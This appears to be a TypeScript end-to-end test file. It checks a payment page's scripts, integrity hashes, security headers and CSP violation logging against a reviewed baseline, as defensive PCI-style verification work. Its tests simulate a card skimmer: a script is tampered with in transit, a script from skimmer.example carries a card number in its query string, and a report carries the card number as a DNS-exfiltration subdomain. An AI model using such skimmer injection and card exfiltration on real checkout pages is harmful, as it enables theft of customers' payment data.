/**
 * The payment page's scripts and security headers, checked against the reviewed baseline in
 * docs/payment-page-baseline.json (the idea of PCI DSS 11.6.1: notice an unexpected change), and
 * Subresource Integrity shown to be enforced by Chromium, and a policy violation shown to reach the
 * shop's log as directive and origin only. After a reviewed change to the pages,
 * `UPDATE_PAYMENT_PAGE_BASELINE=1 pnpm vitest run --project demo:e2e payment-page-integrity`
 * rewrites the baseline; the diff is then part of the change and of docs/script-inventory.md.
 */
import { createHash } from 'node:crypto'
import { readFileSync, writeFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startDemoStack, type DemoStack } from './demo-stack.js'

const BASELINE = fileURLToPath(new URL('../../docs/payment-page-baseline.json', import.meta.url))
const PAGES = ['/', '/admin.html']
const HEADERS = ['content-security-policy', 'x-frame-options', 'x-content-type-options', 'referrer-policy', 'cache-control']

interface PageRecord {
  readonly headers: Record<string, string>
  /** Every script and stylesheet the page loads, with the SRI hash of what the server sent. */
  readonly resources: Record<string, string>
  readonly inlineScripts: number
}

let stack: DemoStack
beforeAll(async () => {
  stack = await startDemoStack()
}, 60_000)
afterAll(() => stack?.close())

async function record(path: string): Promise<PageRecord> {
  const response = await fetch(stack.shop.url + path)
  const html = await response.text()
  const service = new URL(stack.sandbox.baseUrl).origin
  const headers = Object.fromEntries(
    HEADERS.map((name) => [name, (response.headers.get(name) ?? '(absent)').replaceAll(service, '{service}')]),
  )
  const resources: Record<string, string> = {}
  for (const match of html.matchAll(/<(?:script|link)\b[^>]*\s(?:src|href)="(\/assets\/[^"]+)"[^>]*>/g)) {
    const tag = match[0]
    const file = match[1]!
    const served = Buffer.from(await (await fetch(stack.shop.url + file)).arrayBuffer())
    const actual = `sha384-${createHash('sha384').update(served).digest('base64')}`
    // The page's integrity attribute must be the hash of what the server sends.
    expect(tag, file).toContain(`integrity="${actual}"`)
    resources[file] = actual
  }
  // The import map (integrity of every imported module) is the one inline script, allowed by its hash.
  const inlineScripts = [...html.matchAll(/<script\b(?![^>]*\ssrc=)(?![^>]*type="importmap")[^>]*>/g)].length
  const importMap = /<script type="importmap">([\s\S]*?)<\/script>/.exec(html)?.[1]
  expect(importMap, `${path}: import map`).toBeDefined()
  const { integrity } = JSON.parse(importMap!) as { integrity: Record<string, string> }
  for (const [file, hash] of Object.entries(resources)) if (file.endsWith('.js')) expect(integrity[file], file).toBe(hash)
  expect(headers['content-security-policy']).toContain(`'sha256-${createHash('sha256').update(importMap!).digest('base64')}'`)
  return { headers, resources, inlineScripts }
}

describe('payment page scripts and headers (PCI DSS 6.4.3, 11.6.1)', () => {
  it('match the reviewed baseline: same scripts, same hashes, same security headers, no inline script', async () => {
    const current = Object.fromEntries(await Promise.all(PAGES.map(async (path) => [path, await record(path)] as const)))
    if (process.env.UPDATE_PAYMENT_PAGE_BASELINE === '1') writeFileSync(BASELINE, `${JSON.stringify(current, null, 2)}\n`)
    const baseline = JSON.parse(readFileSync(BASELINE, 'utf8')) as Record<string, PageRecord>
    for (const path of PAGES) {
      expect(current[path]!.inlineScripts, path).toBe(0)
      expect(current[path]!.headers, `${path}: security headers changed; review and update docs/payment-page-baseline.json`).toEqual(
        baseline[path]!.headers,
      )
      expect(current[path]!.resources, `${path}: scripts changed; review, update docs/script-inventory.md and the baseline`).toEqual(
        baseline[path]!.resources,
      )
    }
    expect(current['/']!.headers['content-security-policy']).toContain('report-uri /api/csp-report')
  })

  it('is refused by Chromium when a script is altered on the way (Subresource Integrity)', async () => {
    const { page, problems } = await stack.page()
    await page.route('**/assets/card-jwe-*.js', async (route) => {
      const original = await route.fetch()
      await route.fulfill({ response: original, body: `${await original.text()}\n;globalThis.skimmed = true` })
    })
    await page.goto(stack.shop.url)
    await expect.poll(() => problems.join('\n')).toMatch(/integrity/i)
    expect(await page.evaluate(() => (globalThis as { skimmed?: boolean }).skimmed ?? false)).toBe(false)
    expect(await page.getAttribute('body', 'data-ready')).toBeNull() // the checkout never started
  })

  it('reports a violation to the shop, which logs the directive and the blocked origin only', async () => {
    const { page, problems } = await stack.page()
    await page.goto(stack.shop.url)
    await page.waitForSelector('body[data-ready="true"]')
    // What an injected skimmer would do: load its script and send the card away in a query string.
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://skimmer.example/collect.js?pan=5555444433331111'
      document.head.append(script)
    })
    const reported = 'CSP violation reported: script-src-elem blocked https://skimmer.example'
    await expect.poll(() => stack.shopLog.filter((line) => line.startsWith('CSP violation'))).toEqual([reported])
    expect(problems.join('\n')).toMatch(/skimmer\.example\/collect\.js.* violates the following Content Security Policy directive/)

    // The Reporting API's format (what a shop serving HTTPS with report-to receives), a script
    // sample with card digits in it, and a body that is no report at all.
    const post = (type: string, body: string) =>
      fetch(`${stack.shop.url}/api/csp-report`, { method: 'POST', headers: { 'content-type': type }, body })
    const reportingApi = [
      {
        type: 'csp-violation',
        url: `${stack.shop.url}/?pan=5555444433331111`,
        body: { effectiveDirective: 'script-src-elem', blockedURL: 'inline', sample: 'fetch("/x?pan=5555444433331111")' },
      },
    ]
    expect((await post('application/reports+json', JSON.stringify(reportingApi))).status).toBe(204)
    expect(
      (await post('application/csp-report', '{"csp-report": {"effective-directive": "evil\\nline", "blocked-uri": "not a url"}}')).status,
    ).toBe(204)
    const dnsExfiltration = {
      'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': 'https://5555444433331111.skimmer.example/' },
    }
    expect((await post('application/csp-report', JSON.stringify(dnsExfiltration))).status).toBe(204)
    expect((await post('application/csp-report', 'not json')).status).toBe(204)
    expect(stack.shopLog.filter((line) => line.startsWith('CSP'))).toEqual([
      reported,
      'CSP violation reported: script-src-elem blocked inline',
      'CSP violation reported: unknown blocked unknown',
      'CSP violation reported: connect-src blocked https://################.skimmer.example',
      'CSP report unreadable (8 bytes)',
    ])
    expect(stack.shopLog.filter((line) => /5555444433331111|collect\.js|pan=/.test(line))).toEqual([])
  })
})
